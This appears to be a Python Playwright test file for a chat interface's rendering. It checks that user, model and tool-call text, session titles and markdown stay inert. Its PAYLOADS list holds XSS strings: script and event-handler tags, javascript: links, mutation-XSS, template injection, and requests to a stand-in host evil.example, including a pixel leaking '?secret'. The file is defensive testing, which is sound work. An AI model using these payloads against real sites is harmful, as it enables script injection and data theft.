"""Text of users, models and tools stays text: nothing runs, nothing is fetched, links show where they go."""

from __future__ import annotations

from typing import Any

import pytest

from tests.runtime.process import Runtime
from tests.runtime.puppet import task
from tests.runtime.ui.browser_tools import need_package
from tests.runtime.ui.conftest import Open
from tests.runtime.ui.test_page import ask, finish

need_package("playwright.sync_api")
from playwright.sync_api import Page, expect  # noqa: E402

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href=javascript:window.hit=1>click</a>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<form action=https://evil.example><input name=x autofocus onfocus=window.hit=1></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](<java\tscript:window.hit=1>)",
    "[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](&#106;avascript:window.hit=1)",
    '![i](https://evil.example/pixel.png?secret) ![j](x" onerror="window.hit=1)',
    "[ref]: javascript:window.hit=1\n\n[ref]",
    '<https://evil.example/"onmouseover=window.hit=1> <javascript:window.hit=1>',
    "```html onload=window.hit=1\n<script>window.hit=1</script>\n```",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | c |",
    "| `</code><script>window.hit=1</script>` |\n|---|",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
    "**<b onclick=window.hit=1>bold</b>** _<u onmouseenter=window.hit=1>u</u>_",
    "</div></li></ol></main><script>window.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= window.hit=1 %>",
]
EVERYTHING = "\n\n".join(PAYLOADS)
_SUSPECTS = """() => {
  const executable = /^(script|img|iframe|object|embed|form|input|style|link|meta|base|math|video|audio)$/i;
  const shown = "#conversation *, #sessions *, #announcements *, #welcome *";
  return [...document.querySelectorAll(shown)].filter((element) =>
    executable.test(element.tagName)
    || [...element.attributes].some((attribute) => /^on|^style$|^src/i.test(attribute.name))
    || (element.hasAttribute("href") && !/^(https?:|mailto:|#)/.test(element.getAttribute("href")))
  ).map((element) => element.outerHTML);
}"""


def assert_inert(page: Page) -> None:
    """Nothing ran, and no element is there that could. (`open_page` checks that nothing was fetched.)"""
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    assert page.evaluate(_SUSPECTS) == []


def test_what_a_user_writes_is_shown_as_written(scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    text = task(solo=[{"text": "ok"}], note=[{"text": EVERYTHING}])
    ask(page, text)
    finish(page)
    expect(page.locator(".user-text")).to_have_text(text)
    assert_inert(page)
    page.reload()
    finish(page)
    assert_inert(page)


@pytest.mark.parametrize("payload", [*PAYLOADS, EVERYTHING], ids=range(len(PAYLOADS) + 1))
def test_what_a_model_writes_is_inert(payload: str, scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    ask(page, task(solo=[{"text": payload}]))
    finish(page)
    assert_inert(page)


def test_what_a_tool_is_given_and_returns_is_inert(scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    calls = [{"name": "kubectl-get", "arguments": {"resource": payload}} for payload in PAYLOADS]
    ask(page, task(solo=[{"tool_calls": calls}, {"text": "done"}]))
    finish(page)
    expect(page.locator("details.tool")).to_have_count(len(PAYLOADS))
    page.evaluate("for (const card of document.querySelectorAll('details.tool')) card.open = true")
    assert PAYLOADS[0] in page.locator("details.tool pre").nth(1).inner_text()
    assert_inert(page)


def test_session_titles_are_inert(scripted: Runtime, open_page: Open) -> None:
    scripted.client.post("/api/v1/sessions", json={"title": PAYLOADS[1]})
    page = open_page(scripted.url + "/")
    expect(page.locator(".session-title").first).to_have_text(PAYLOADS[1])
    page.get_by_role("button", name=f"Delete {PAYLOADS[1]}").click()
    expect(page.locator("#confirm-text")).to_contain_text(PAYLOADS[1])
    assert_inert(page)


RENDER = """async (text) => {
  const { renderMarkdown } = await import(new URL("static/js/markdown.js", location.href));
  const box = document.createElement("div");
  box.append(renderMarkdown(text));
  return box.innerHTML;
}"""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain *em* **strong** ~~del~~", "<p>plain <em>em</em> <strong>strong</strong> <del>del</del></p>"),
        ("# One\n###### Six", "<h3>One</h3><h6>Six</h6>"),
        ("- a\n- b\n  1. c", "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>"),
        ("3. c", '<ol start="3"><li>c</li></ol>'),
        ("`a < b &amp;`", "<p><code>a &lt; b &amp;amp;</code></p>"),
        ("a &amp; b &lt;i&gt; &#8364;", "<p>a &amp; b &lt;i&gt; €</p>"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
        ("a  \nb", "<p>a<br>b</p>"),
        ("> q", "<blockquote><p>q</p></blockquote>"),
        ("---", "<hr>"),
        ("[x](javascript:alert(1))", "<p><span>x</span></p>"),
        ("[x](relative/path)", "<p><span>x</span></p>"),
    ],
)
def test_markdown(text: str, html: str, scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    assert page.evaluate(RENDER, text) == html


def test_link_shows_its_host_and_an_image_is_only_a_link(scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    ask(
        page,
        task(
            solo=[
                {
                    "text": "[your bank](https://evil.example/login) https://good.example/x ![pic](https://p.example/a.png)"
                }
            ]
        ),
    )
    finish(page)
    expect(page.locator(".message")).to_have_text("your bank (evil.example) https://good.example/x pic (p.example)")
    for link in page.locator(".message a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"


def test_code_can_be_copied_and_tables_are_tables(scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/", permissions=["clipboard-read", "clipboard-write"])
    text = "```yaml\na: 1\n```\n\n| pod | state |\n|---|--:|\n| checkout | down |"
    ask(page, task(solo=[{"text": text}]))
    finish(page)
    page.get_by_role("button", name="Copy code").click()
    expect(page.get_by_role("button", name="Copy code")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "a: 1"
    expect(page.locator(".message td").nth(1)).to_have_class("align-right")


def test_deeply_nested_markdown_does_not_break_the_page(scripted: Runtime, open_page: Open) -> None:
    page = open_page(scripted.url + "/")
    hostile: list[Any] = [">" * 3000 + "x", "[" * 3000, "*a " * 3000, "- " * 500 + "x", "`" * 5000]
    for text in hostile:
        assert page.evaluate(RENDER, text)
